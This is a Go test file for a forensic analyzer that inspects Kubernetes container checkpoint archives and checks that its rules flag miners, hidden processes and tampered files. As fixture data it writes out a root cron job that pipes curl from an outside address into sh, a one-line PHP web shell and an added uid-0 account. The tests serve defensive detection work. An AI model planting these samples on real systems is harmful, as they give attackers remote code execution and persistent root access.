package analyzer

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"lagan/checkpoint"
	"lagan/evidence"
	"lagan/findings"
	"lagan/timeline"
)

const webCheckpoint = "../checkpoint/testdata/web.tar.gz"

// TestCheckpoints finds an archive in the kubelet's folder on a node, and tells
// what it holds in findings and in the timeline.
func TestCheckpoints(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "var/lib/kubelet/checkpoints")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(webCheckpoint)
	if err != nil {
		t.Fatal(err)
	}
	const name = "checkpoint-web-7c5ddbdf54-x2k9q_default-nginx-2026-11-22T09:31:07Z.tar"
	for file, content := range map[string][]byte{name: b, "broken.tar": []byte("no tar")} {
		if err := os.WriteFile(filepath.Join(dir, file), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	n, err := Open(context.Background(), root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	all := n.Checkpoints()
	if len(all) != 1 || all[0].Path != "/var/lib/kubelet/checkpoints/"+name || all[0].DisplayName() != "default/web-7c5ddbdf54-x2k9q/nginx" {
		t.Fatalf("checkpoints %v", all)
	}
	if gaps := n.Gaps(); len(gaps) == 0 || !strings.Contains(gaps[0].Object, "broken.tar") {
		t.Errorf("gaps %v, want the broken archive", gaps)
	}
	found := findingsOf(t, n)
	for _, rule := range []string{"process-deleted-executable", "process-odd-place", "process-changed-executable", "process-public-address", "miner"} {
		if !slices.ContainsFunc(found, func(f *findings.Finding) bool { return f.Rule.ID == rule }) {
			t.Errorf("no finding %s", rule)
		}
	}
	var told []string
	err = n.Timeline(t.Context(), TimelineOptions{Scope: ScopeAll}, func(r *timeline.Record) error {
		var x timeline.Reader
		if err := x.Read(r); err != nil {
			return err
		}
		if x.Text(timeline.FieldParser) == "lagan/checkpoint" {
			told = append(told, x.Message())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(told) != 2+4+4 || !slices.ContainsFunc(told, func(s string) bool { return strings.Contains(s, "stratum+tcp") }) {
		t.Errorf("the timeline tells %q", told)
	}
}

// TestCheckpointFindings holds an archive's processes and changed files against the rules.
func TestCheckpointFindings(t *testing.T) {
	for name, want := range map[string][]string{
		"web": {"miner /tmp/.x/dnsd", "process-deleted-executable /tmp/.x/dnsd", "process-changed-executable /malicious", "image-files-deleted /etc/debian_version", "log-deleted /var/log/apt/history.log"},
		"api": {"process-kernel-name /dev/shm/.k/kworker", "process-sniffs /dev/shm/.k/kworker", "program-hidden /dev/shm/.k/kworker", "image-files-deleted /etc/hostname.bak"},
	} {
		c, err := OpenCheckpoint(t.Context(), "../checkpoint/testdata/"+name+".tar.gz", Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		all, err := CheckpointFindings(t.Context(), c, FindOptions{})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, f := range all {
			for _, e := range f.Evidence {
				got = append(got, f.Rule.ID+" "+e.Path)
			}
		}
		for _, w := range want {
			if !slices.Contains(got, w) {
				t.Errorf("%s: no finding %s in %q", name, w, got)
			}
		}
	}
}

// TestCheckpointChange holds changed files as an archive has them against the rules: their beginnings.
func TestCheckpointChange(t *testing.T) {
	file := func(name, text string, mode int64) checkpoint.Changed {
		return checkpoint.Changed{Path: name, Type: '0', Mode: mode, Size: int64(len(text)), Head: []byte(text), Mtime: time.Unix(1790000000, 0)}
	}
	c := &Checkpoint{Checkpoint: &checkpoint.Checkpoint{Name: "x", ID: "1", Changed: []checkpoint.Changed{
		file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/bin/false\n", 0o644),
		file("/etc/cron.d/0", "* * * * * root curl http://203.0.113.7/x | sh\n", 0o644),
		file("/usr/share/nginx/html/s.php", "<?php system($_GET[0]);?>", 0o644),
		file("/tmp/suid", "\x7fELF", 0o4755),
	}}}
	all, err := CheckpointFindings(t.Context(), c, FindOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range all {
		got = append(got, f.Rule.ID)
	}
	slices.Sort(got)
	if want := []string{"accounts-changed", "download-run", "program-in-temp", "setuid-gained", "web-shell"}; !slices.Equal(got, want) {
		t.Errorf("findings %q, want %q", got, want)
	}
	c.Changed[0] = file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nx:x:0:0::/:/bin/sh\n", 0o644)
	if all, err = CheckpointFindings(t.Context(), c, FindOptions{}); err != nil || !slices.ContainsFunc(all, func(f *findings.Finding) bool { return f.Rule.ID == "account-uid0" }) {
		t.Errorf("no finding of a second root, %v", err)
	}
}

func TestOpenCheckpoint(t *testing.T) {
	c, err := OpenCheckpoint(t.Context(), webCheckpoint, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if ps, err := c.ProcessesOf(31); err != nil || ps[0].Comm != ".x" {
		t.Errorf("process 31: %v, %v", ps, err)
	}
	if _, err := c.ProcessesOf(99); !errors.Is(err, ErrNoProcess) {
		t.Errorf("process 99: %v", err)
	}
	if _, err := OpenCheckpoint(t.Context(), "find.go", Options{}); !errors.Is(err, evidence.ErrFormat) || IsCheckpoint(err) {
		t.Errorf("a text is %v", err)
	}
}
